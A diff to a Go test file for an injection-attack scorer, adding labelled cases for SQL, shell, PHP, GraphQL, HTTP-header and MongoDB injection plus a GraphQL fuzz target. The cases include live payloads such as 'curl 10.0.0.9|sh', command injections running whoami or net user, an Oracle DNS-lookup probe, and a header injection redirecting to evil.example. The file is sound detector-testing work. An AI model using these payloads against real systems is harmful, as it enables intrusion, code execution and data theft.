@@ -13,6 +13,14 @@ func TestSQLScore(t *testing.T) {
 		// Breaks out and acts.
 		{"1' or '1'='1", scoreAttack},
 		{"admin'--", scoreAttack},
+		{"x' or '1", scoreAttack},
+		{"SELECT UTL_INADDR.get_host_address('x.example.net')", scoreAttack},
+		{"SELECT banner FROM v$version", scoreAttack},
+		{"x' or '2abc", scoreAttack},
+		{"x' or 'true", scoreAttack},
+		{"x' or not 'a", scoreAttack},
+		{"Where does the 'or' operator go? a || b && c", scoreWeak},
+		{"x' or '0", scoreWeak},
 		{"1 union select password from users", scoreAttack},
 		{"' union all select null,null--", scoreAttack},
 		{" OR 1=0", scoreAttack},
@@ -114,6 +122,24 @@ func TestShellScore(t *testing.T) {
 		{"/usr/bin/id", scoreAttack},
 		{"echo x$((50+41))", scoreAttack},
 		{"1 || whoami || ", scoreAttack},
+		{"-TvTT=curl 10.0.0.9|sh # a.zip", scoreAttack},
+		{"127.0.0.1 & net user", scoreAttack},
+		{"127.0.0.1 & timeout /t 10", scoreAttack},
+		{"; timeout 5 id", scoreAttack},
+		{"the request failed & timeout errors followed", scoreWeak},
+		{"127.0.0.1 && net localgroup administrators", scoreAttack},
+		{"1 | reg query HKLM\\Software", scoreAttack},
+		{"Tom & net profits", scoreWeak},
+		{";echo vulnerable", scoreAttack},
+		{" && echo hi", scoreAttack},
+		{"a; echo hi", scoreWeak},
+		{"127.0.0.1 && nslookup x.example.net", scoreAttack},
+		{"host a.example.com is down", scoreWeak},
+		{"Use set -euo pipefail; prefer $(cmd) over backticks.", scoreWeak},
+		{"x $(cmd /c whoami)", scoreAttack},
+		{"x $(whoami) y", scoreAttack},
+		{"$(ipconfig)", scoreAttack},
+		{"Issue #12 | see the board", scoreNone},
 		// Words, paths and telemetry that start no command.
 		{"zsh is the best!", scoreWeak},
 		{"//*[@id=app]/div[2]/ul[1]/li[8]", scoreNone},
@@ -142,6 +168,11 @@ func TestPHPScore(t *testing.T) {
 		{"eval(base64_decode('x'))", scoreAttack},
 		{"at Object.u [as captureTrace] ($g)", scoreNone},
 		{"the system is down", scoreNone},
+		{"The system() call in C starts a shell", scoreNone},
+		{"system( )", scoreNone},
+		{"system(", scoreNone},
+		{"phpinfo()", scoreAttack},
+		{"system ( 'id' )", scoreAttack},
 	}
 	for _, c := range cases {
 		if got := phpScore(c.in); got != c.want {
@@ -166,6 +197,16 @@ func TestTextKind(t *testing.T) {
 		{"<p>Hello <b>world</b></p>", kindMarkup},
 		{`<?xml version="1.0"?><a/>`, kindMarkup},
 		{"abc123", kindOther},
+		{"The system() call in C starts a shell", kindProse},
+		{"then system('id') runs", kindOther},
+		{"query Get($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { title } } } } }", kindCode},
+		{`mutation { addTag(name: "union select", note: """a "b" c""") { id ...F } } # note`, kindCode},
+		{"{ search(q: \"x\") { ... on User { name } } }", kindCode},
+		{"query { user(id: 1' or '1'='1) { name } }", kindOther},
+		{"query { a } ; drop table users", kindOther},
+		{"query { a(x: 1) -- }", kindOther},
+		{"query { a", kindOther},
+		{`{"id": "1 union select 2"}`, kindOther},
 	}
 	for _, c := range cases {
 		if got := textKindOf(c.in); got != c.want {
@@ -180,6 +221,22 @@ func TestStructuredValues(t *testing.T) {
 	}
 	if isHeaderBlock("foo\r\nSet-Cookie: x=1") {
 		t.Error("text ending in an injected header is a header block")
+	}
+	for _, c := range []struct {
+		in   string
+		want bool
+	}{
+		{"foo\r\nSet-Cookie: x=1", true},
+		{"\r\nSet-Cookie: admin=1", true},
+		{"\nLocation: https://evil.example/", true},
+		{"a\r\nHTTP/1.1 200 OK", true},
+		{"Set-Cookie: x=1", false},
+		{"line one\nline two", false},
+		{"\nsecond line only", false},
+	} {
+		if got := injectsHeader(c.in); got != c.want {
+			t.Errorf("injectsHeader(%q) = %v, want %v", c.in, got, c.want)
+		}
 	}
 	if !looksEmail("John+or@var.es") || looksEmail("a@b") || looksEmail("x' or 1=1 --@a.b") {
 		t.Error("looksEmail")
@@ -221,6 +278,40 @@ func FuzzXSSScore(f *testing.F) {
 
 func FuzzShellScore(f *testing.F) {
 	fuzzScorer(f, shellScore, "; id", "$(", "`", "() {", "a=b c=d ls -la", "|||")
+}
+
+func FuzzIsGraphQL(f *testing.F) {
+	for _, s := range []string{"query { a }", "{ a(x: \"y\") }", "mutation M($v: [Int!]) { m(v: $v) @skip(if: true) }", "{\"", "# x\n{a}"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if isGraphQL(s) && strings.ContainsAny(stripGraphQLStrings(s), "';<>`\\") {
+			t.Fatalf("isGraphQL(%q): a document with syntax GraphQL has not", s)
+		}
+	})
+}
+
+// stripGraphQLStrings drops a GraphQL document's strings and comments,
+// for the fuzz target's check.
+func stripGraphQLStrings(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		switch s[i] {
+		case '"':
+			for i++; i < len(s) && s[i] != '"'; i++ {
+				if s[i] == '\\' {
+					i++
+				}
+			}
+		case '#':
+			for i < len(s) && s[i] != '\n' {
+				i++
+			}
+		default:
+			b.WriteByte(s[i])
+		}
+	}
+	return b.String()
 }
 
 func FuzzTextKind(f *testing.F) {
@@ -274,6 +365,9 @@ func TestMongoScore(t *testing.T) {
 		{"user[$ne]", scoreAttack},
 		{`{"password": {"$gt": ""}}`, scoreAttack},
 		{`{"$where": "sleep(1000)"}`, scoreAttack},
+		{"json.username.$ne", scoreAttack},
+		{"json.password.$regex", scoreAttack},
+		{"json.items.$Content", scoreNone},
 		{"type=rec$src=rec$action=0$enb=1", scoreNone},
 		{"price in $", scoreNone},
 	}
